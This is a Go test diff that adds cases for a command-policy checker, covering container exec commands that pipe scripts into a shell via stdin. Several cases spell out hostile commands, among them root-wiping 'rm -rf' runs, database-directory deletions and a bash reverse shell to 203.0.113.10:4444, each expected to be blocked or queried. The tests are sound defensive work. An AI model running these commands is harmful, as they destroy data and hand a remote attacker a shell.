@@ -41,3 +41,21 @@ func TestLead61VimTypedKeys(t *testing.T) {
 		{`vim -c 'call job_start(["make", "test"])' x`, dsl.Allow, dsl.Allow},
 	})
 }
+
+// TestLead61ContainerStdin: a container exec that forwards standard input
+// runs what is fed to its shell (rt61 M4); without -i nothing reaches it.
+func TestLead61ContainerStdin(t *testing.T) {
+	checkHoles(t, []holeCase{
+		{"docker exec -i app sh <<'X'\nrm -rf --no-preserve-root /\nX", dsl.Block, dsl.Block},
+		{"docker exec -i web bash -s <<'X'\nbash -i >& /dev/tcp/203.0.113.10/4444 0>&1\nX", dsl.Block, dsl.Block},
+		{"kubectl exec -i db -- sh <<'X'\nrm -rf /var/lib/postgresql/data/*\nX", dsl.Ask, dsl.Ask},
+		{"echo 'rm -rf /var/lib/mysql' | podman exec -i db sh", dsl.Ask, dsl.Ask},
+		{"docker compose exec -T db sh <<'X'\nrm -rf /\nX", dsl.Block, dsl.Block},
+		{"echo 'rm -rf /' | docker compose run --rm -T app sh", dsl.Block, dsl.Block},
+		{"docker exec app sh <<'X'\nrm -rf --no-preserve-root /\nX", dsl.Allow, dsl.Allow}, // no -i: sh reads nothing
+		{"docker compose exec -T db psql -U app < dump.sql", dsl.Allow, dsl.Allow},
+		{"cat backup.sql | docker exec -i pg psql -U postgres", dsl.Allow, dsl.Allow},
+		{"docker exec -i app sh <<'X'\nls -la /app\nX", dsl.Allow, dsl.Allow},
+		{"docker exec -i -t app ls", dsl.Allow, dsl.Allow},
+	})
+}
